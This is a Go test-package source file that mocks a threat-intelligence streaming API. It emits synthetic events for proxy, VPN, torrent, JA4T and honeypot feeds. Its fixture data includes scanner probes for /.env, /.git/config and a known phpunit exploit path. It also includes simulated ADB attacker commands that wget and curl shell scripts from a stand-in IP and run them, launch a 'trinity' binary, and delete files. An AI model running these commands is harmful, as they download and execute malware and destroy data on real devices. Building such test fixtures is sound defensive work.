package synthienttest

import (
	"crypto/md5"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net/http"
	"net/netip"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"time"

	"github.com/synthient-go/synthient"
	"github.com/synthient-go/synthient/internal/problem"
)

// handleStream answers an opened stream: NDJSON events at the event
// interval, heartbeat blank lines, and a clean close after the lifetime or
// the events cap.
func (s *Server) handleStream(w http.ResponseWriter, r *http.Request, k *apiKey, p params) {
	if !s.openStream(k) {
		problem.Write(w, problem.Details{Type: errBase + "too-many-streams", Status: http.StatusTooManyRequests,
			Title:    "Too Many Requests",
			Detail:   fmt.Sprintf("Too many concurrent streams for this key (at most %d).", s.cfg.streamLimit),
			Instance: r.URL.Path})
		return
	}
	defer s.closeStream(k)
	h := w.Header()
	h.Set("Content-Type", "application/x-ndjson")
	h.Set("Cache-Control", "no-cache")
	w.WriteHeader(http.StatusOK)
	rc := http.NewResponseController(w)
	if rc.Flush() != nil || r.Method == http.MethodHead {
		return
	}
	g := newEventGen(p.feed, s.streamSeq.Add(1), s.cfg.httpsDetails)
	sent := 0
	emit := func() bool {
		line, err := g.next(s.now())
		if err != nil {
			return false
		}
		if _, err := w.Write(append(line, '\n')); err != nil || rc.Flush() != nil {
			return false
		}
		sent++
		return s.cfg.maxEvents == 0 || sent < s.cfg.maxEvents
	}
	if !emit() {
		return
	}
	life := time.NewTimer(s.cfg.lifetime)
	defer life.Stop()
	beat := time.NewTicker(s.cfg.heartbeat)
	defer beat.Stop()
	tick := time.NewTicker(s.cfg.eventInterval)
	defer tick.Stop()
	for {
		select {
		case <-r.Context().Done():
			return
		case <-s.done:
			return
		case <-life.C:
			return
		case <-beat.C:
			if _, err := w.Write([]byte{'\n'}); err != nil || rc.Flush() != nil {
				return
			}
		case <-tick.C:
			if !emit() {
				return
			}
		}
	}
}

// openStream counts a stream of k; false when k has the most it may.
func (s *Server) openStream(k *apiKey) bool {
	s.keysMu.Lock()
	defer s.keysMu.Unlock()
	if k.streams >= s.cfg.streamLimit {
		return false
	}
	k.streams++
	return true
}

func (s *Server) closeStream(k *apiKey) {
	s.keysMu.Lock()
	defer s.keysMu.Unlock()
	k.streams--
}

// OpenStreams returns how many streams are open, all keys together.
func (s *Server) OpenStreams() int {
	s.keysMu.Lock()
	defer s.keysMu.Unlock()
	n := 0
	for _, k := range s.keys {
		n += k.streams
	}
	return n
}

// eventGen makes the events of one stream: deterministic for the stream's
// sequence number, dated by the server's clock.
type eventGen struct {
	feed    synthient.Feed
	r       *rand.Rand
	form    DetailsForm
	n       int
	session string
	seq     int
}

func newEventGen(feed synthient.Feed, n uint64, form DetailsForm) *eventGen {
	return &eventGen{feed: feed, r: rng("stream", string(feed), strconv.FormatUint(n, 10)), form: form}
}

var (
	proxyCats = []string{"RESIDENTIAL_PROXY", "MOBILE_PROXY", "DATACENTER_PROXY", "PUBLIC_PROXY"}
	anonCats  = []string{"COMMERCIAL_VPN", "FREE_VPN", "ENTERPRISE_VPN", "TOR_NODE", "PRIVATE_RELAY"}
)

// pickIP draws addresses until one whose lookup has one of cats (any
// category when cats is nil), so that the stream and a lookup agree; it
// gives up after a while and makes up a provider.
func (g *eventGen) pickIP(now time.Time, cats []string) (netip.Addr, synthient.IPLookup, string, string) {
	for range 200 {
		a := randomPublicIP(g.r)
		l := lookupIP(a, now)
		if l.Intelligence == nil {
			continue
		}
		for _, p := range l.Intelligence.Providers {
			if cats == nil || slices.Contains(cats, p.Type) {
				return a, l, p.Provider, p.Type
			}
		}
	}
	a := randomPublicIP(g.r)
	p := profResProxy
	return a, lookupIP(a, now), p.providers[g.r.IntN(len(p.providers))], p.category
}

func country(l synthient.IPLookup) (string, int) {
	if l.Location == nil || l.Network == nil {
		return "", 0
	}
	return l.Location.Country, l.Network.ASN
}

var torrentNames = []struct {
	name  string
	files []string
}{
	{"ubuntu-24.04.1-desktop-amd64.iso", nil},
	{"debian-12.7.0-amd64-netinst.iso", nil},
	{"archlinux-2024.09.01-x86_64.iso", nil},
	{"Fedora-Workstation-Live-x86_64-40", []string{"Fedora-Workstation-Live-x86_64-40-1.14.iso", "Fedora-Workstation-40-1.14-x86_64-CHECKSUM"}},
	{"Big Buck Bunny", []string{"Big Buck Bunny.mp4", "Big Buck Bunny.en.srt", "poster.jpg"}},
	{"Sintel", []string{"Sintel.mp4", "Sintel.de.srt", "Sintel.en.srt", "Sintel.es.srt", "poster.jpg"}},
	{"Tears of Steel", []string{"tears_of_steel_1080p.mkv", "tears_of_steel.en.srt"}},
	{"wikipedia_en_all_maxi_2024-01.zim", nil},
	{"LibreOffice_24.8.2_Linux_x86-64_deb", []string{"LibreOffice_24.8.2_Linux_x86-64_deb.tar.gz"}},
	{"Cosmos Laundromat", []string{"Cosmos Laundromat.mp4", "Cosmos Laundromat.en.srt"}},
}

var honeypotDomains = []string{
	"www.example.com", "api.example.net", "admin.example.org", "mail.example.com",
	"staging.example.net", "vpn.example.org", "git.example.com", "cdn.example.net",
}

var scannerAgents = []string{
	"Mozilla/5.0 zgrab/0.x",
	"python-requests/2.32.3",
	"curl/8.5.0",
	"Go-http-client/1.1",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
	"Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
	"masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
}

var probes = []struct{ method, uri string }{
	{"GET", "/"}, {"GET", "/.env"}, {"GET", "/.git/config"}, {"GET", "/wp-login.php"},
	{"POST", "/xmlrpc.php"}, {"GET", "/actuator/health"}, {"GET", "/admin/config.php"},
	{"GET", "/cgi-bin/luci/;stok=/locale"}, {"POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"},
	{"GET", "/server-status"}, {"GET", "/api/v1/pods"}, {"GET", "/favicon.ico"}, {"GET", "/robots.txt"},
}

var helioPools = []struct{ pool, provider, server string }{
	{"pool-eu-1", "HETZNER", "helio-fsn1-04"},
	{"pool-eu-2", "OVH", "helio-rbx-11"},
	{"pool-us-1", "DIGITALOCEAN", "helio-nyc3-02"},
	{"pool-us-2", "VULTR", "helio-lax-07"},
	{"pool-ap-1", "LINODE", "helio-sin-03"},
}

var adbCommands = []string{
	"host::features=shell_v2,cmd,stat_v2,ls_v2,fixed_push_mkdir,apex,abb,fixed_push_symlink_timestamp,abb_exec,remount_shell,track_app,sendrecv_v2",
	"shell:getprop ro.product.model",
	"shell:uname -a",
	"shell:pm list packages",
	"shell:cd /data/local/tmp/; busybox wget http://203.0.113.77/w.sh; sh w.sh; curl -O http://203.0.113.77/c.sh; sh c.sh",
	"shell:chmod 777 /data/local/tmp/trinity; /data/local/tmp/trinity",
	"shell:echo ok",
	"shell:rm -rf /data/local/tmp/*",
	"shell:cat /proc/cpuinfo",
}

var ja4tPrints = []string{
	"64240_2-1-3-1-1-4_1460_8", "29200_2-4-8-1-3_1424_7", "65535_2-1-3-1-1-4_1460_6",
	"43080_2-4-8-1-3_1436_9", "64240_2-4-8-1-3_1460_7", "14600_2-4-8-1-3_1460_7",
}

func (g *eventGen) meta() *synthient.HoneypotMeta {
	p := helioPools[g.r.IntN(len(helioPools))]
	return &synthient.HoneypotMeta{PoolID: p.pool, Provider: p.provider, ProxyIP: randomPublicIP(g.r).String(), Server: p.server}
}

func (g *eventGen) hex(n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(g.r.IntN(256))
	}
	return hex.EncodeToString(b)
}

// httpsEvent is the honeypot_https event as the API sends it: raw is left
// out when the handshake was not captured.
type httpsEvent struct {
	Timestamp int64                   `json:"timestamp"`
	TunnelID  int64                   `json:"tunnel_id"`
	Domain    string                  `json:"domain"`
	Port      int                     `json:"port"`
	Details   json.RawMessage         `json:"details"`
	Raw       string                  `json:"raw,omitempty"`
	Meta      *synthient.HoneypotMeta `json:"meta"`
}

// next returns the next event as one line of JSON.
func (g *eventGen) next(now time.Time) ([]byte, error) {
	g.n++
	r := g.r
	sec := now.Unix()
	ms := now.UnixMilli() - int64(r.IntN(1500))
	switch g.feed {
	case synthient.FeedProxies:
		a, l, prov, typ := g.pickIP(now, proxyCats)
		cc, asn := country(l)
		return json.Marshal(synthient.ProxyEvent{IP: a.String(), Provider: prov, Type: typ, Timestamp: sec, CountryCode: cc, ASN: asn})
	case synthient.FeedAnonymizers:
		a, l, prov, typ := g.pickIP(now, anonCats)
		start := a
		var end netip.Addr
		if a.Is4() {
			b := networkPrefix(a).Addr().As4()
			size := []int{16, 64, 256}[r.IntN(3)]
			b[3] = byte(r.IntN(256/size) * size)
			start = netip.AddrFrom4(b)
			b[3] += byte(size - 1)
			end = netip.AddrFrom4(b)
		} else {
			start = netip.PrefixFrom(a, 64).Masked().Addr()
			b := start.As16()
			for i := 8; i < 16; i++ {
				b[i] = 0xff
			}
			end = netip.AddrFrom16(b)
		}
		cc, asn := country(lookupIP(start, now))
		if cc == "" {
			cc, asn = country(l)
		}
		return json.Marshal(synthient.AnonymizerEvent{RangeStart: start.String(), RangeEnd: end.String(), Provider: prov, Type: typ, Timestamp: sec, CountryCode: cc, ASN: asn})
	case synthient.FeedTorrents:
		t := torrentNames[r.IntN(len(torrentNames))]
		hash := g.hex(20)
		ev := synthient.TorrentEvent{InfoHash: hash, Name: t.name, Timestamp: sec,
			MagnetURI:   "magnet:?xt=urn:btih:" + hash + "&dn=" + url.QueryEscape(t.name) + "&tr=" + url.QueryEscape("udp://tracker.opentrackr.org:1337/announce"),
			PieceLength: 1 << (18 + r.IntN(5)), Files: []synthient.TorrentFile{}, Peers: []synthient.TorrentPeer{}}
		files := t.files
		if files == nil {
			files = []string{t.name}
		}
		for i, f := range files {
			n := int64(1<<20) + r.Int64N(4<<30)
			if i > 0 {
				n = 1024 + r.Int64N(200<<10)
			}
			ev.Files = append(ev.Files, synthient.TorrentFile{Path: f, Length: n})
			ev.TotalSize += n
		}
		ev.FileCount = len(ev.Files)
		for n := 1 + r.IntN(6); n > 0; n-- {
			port := 6881 + r.IntN(119)
			if r.IntN(3) == 0 {
				port = 1024 + r.IntN(64000)
			}
			ev.Peers = append(ev.Peers, synthient.TorrentPeer{IP: randomPublicIP(r).String(), Port: port,
				Source: []string{"DHT", "PEX", "TRACKER"}[r.IntN(3)], Encrypted: r.IntN(2) == 0})
		}
		return json.Marshal(ev)
	case synthient.FeedHoneypotHTTP:
		p := probes[r.IntN(len(probes))]
		dom := honeypotDomains[r.IntN(len(honeypotDomains))]
		port := []int{80, 80, 8080, 8000, 8888}[r.IntN(5)]
		host := dom
		if port != 80 {
			host += ":" + strconv.Itoa(port)
		}
		ua := scannerAgents[r.IntN(len(scannerAgents))]
		headers := map[string]string{"Host": host, "User-Agent": ua, "Accept": "*/*", "Connection": "close"}
		raw := p.method + " " + p.uri + " HTTP/1.1\r\nHost: " + host + "\r\nUser-Agent: " + ua + "\r\nAccept: */*\r\nConnection: close\r\n"
		if p.method == "POST" {
			headers["Content-Type"] = "application/x-www-form-urlencoded"
			headers["Content-Length"] = "0"
			raw += "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 0\r\n"
		}
		raw += "\r\n"
		return json.Marshal(synthient.HoneypotHTTPEvent{Timestamp: ms, TunnelID: 100000 + r.Int64N(9_900_000), Domain: dom, Port: port,
			Details: &synthient.HTTPRequestDetails{Method: p.method, URI: p.uri, Version: "HTTP/1.1", Headers: headers},
			Raw:     raw, Meta: g.meta()})
	case synthient.FeedHoneypotHTTPS:
		dom := honeypotDomains[r.IntN(len(honeypotDomains))]
		ciphers := []int{4865, 4866, 4867, 49195, 49199, 49196, 49200, 52393, 52392, 49171, 49172, 156, 157, 47, 53}
		ciphers = ciphers[:3+r.IntN(len(ciphers)-3)]
		exts := []int{0, 23, 65281, 10, 11, 35, 16, 5, 13, 18, 51, 45, 43, 27, 17513}
		exts = exts[:6+r.IntN(len(exts)-6)]
		hello := map[string]any{
			"tls_version": "TLS 1.3", "record_version": "TLS 1.0", "sni": dom,
			"cipher_suites": ciphers, "extensions": exts, "supported_groups": []int{29, 23, 24},
			"alpn": []string{"h2", "http/1.1"},
		}
		ja3 := md5.Sum([]byte(fmt.Sprint(ciphers, exts)))
		hello["ja3"] = hex.EncodeToString(ja3[:])
		hello["ja4"] = fmt.Sprintf("t13d%02d%02dh2_%s_%s", len(ciphers), len(exts), g.hex(6), g.hex(6))
		obj, err := json.Marshal(hello)
		if err != nil {
			return nil, err
		}
		var details json.RawMessage
		form := g.form
		if form == DetailsMixed {
			form = []DetailsForm{DetailsString, DetailsObject, -1}[g.n%3]
		}
		switch form {
		case DetailsString:
			details, _ = json.Marshal(string(obj))
		case DetailsObject:
			details = obj
		default:
			details = json.RawMessage("null")
		}
		ev := httpsEvent{Timestamp: ms, TunnelID: 100000 + r.Int64N(9_900_000), Domain: dom, Port: []int{443, 443, 8443}[r.IntN(3)],
			Details: details, Meta: g.meta()}
		if r.IntN(4) != 0 {
			b := make([]byte, 5+64+r.IntN(240))
			for i := range b {
				b[i] = byte(r.IntN(256))
			}
			copy(b, []byte{0x16, 0x03, 0x01})
			ev.Raw = base64.StdEncoding.EncodeToString(b)
		}
		return json.Marshal(ev)
	case synthient.FeedHoneypotDNS:
		base := honeypotDomains[r.IntN(len(honeypotDomains))]
		base = base[strings.IndexByte(base, '.')+1:]
		name := []string{"_dmarc.", "wpad.", "_acme-challenge.", "mail.", "", g.hex(4) + "."}[r.IntN(6)] + base
		port := 53
		switch n := r.IntN(100); {
		case n < 8:
			port = 5353
		case n < 20:
			port = 853
		}
		return json.Marshal(synthient.HoneypotDNSEvent{Timestamp: ms, TunnelID: 100000 + r.Int64N(9_900_000), Domain: name, Port: port, Meta: g.meta()})
	case synthient.FeedHoneypotADB:
		if g.session == "" || r.IntN(5) == 0 {
			g.session, g.seq = "sha256:"+g.hex(32), 0
		}
		cmd := []byte(adbCommands[r.IntN(len(adbCommands))])
		if g.seq == 0 {
			cmd = []byte(adbCommands[0])
		}
		sum := sha256.Sum256(cmd)
		ev := synthient.HoneypotADBEvent{Session: g.session, SequentialID: g.seq, Command: cmd, Hash: hex.EncodeToString(sum[:])}
		g.seq++
		return json.Marshal(ev)
	case synthient.FeedJA4T:
		a, l, prov, typ := g.pickIP(now, nil)
		cc, asn := country(l)
		return json.Marshal(synthient.JA4TEvent{IP: a.String(), JA4T: ja4tPrints[r.IntN(len(ja4tPrints))], Provider: prov, Type: typ, Timestamp: sec, CountryCode: cc, ASN: asn})
	}
	return nil, fmt.Errorf("no events for feed %q", g.feed)
}
